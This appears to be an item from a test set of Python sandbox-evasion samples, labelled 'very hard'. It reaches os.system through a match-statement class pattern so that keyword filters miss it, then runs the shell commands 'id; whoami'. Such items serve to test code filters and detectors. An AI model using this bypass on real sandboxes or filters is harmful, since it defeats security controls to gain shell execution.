# evasion: a match class pattern pulls system out of os by keyword
# grade: very hard; does: shell
import os

match os:
    case object(system=run):
        run("id; whoami")
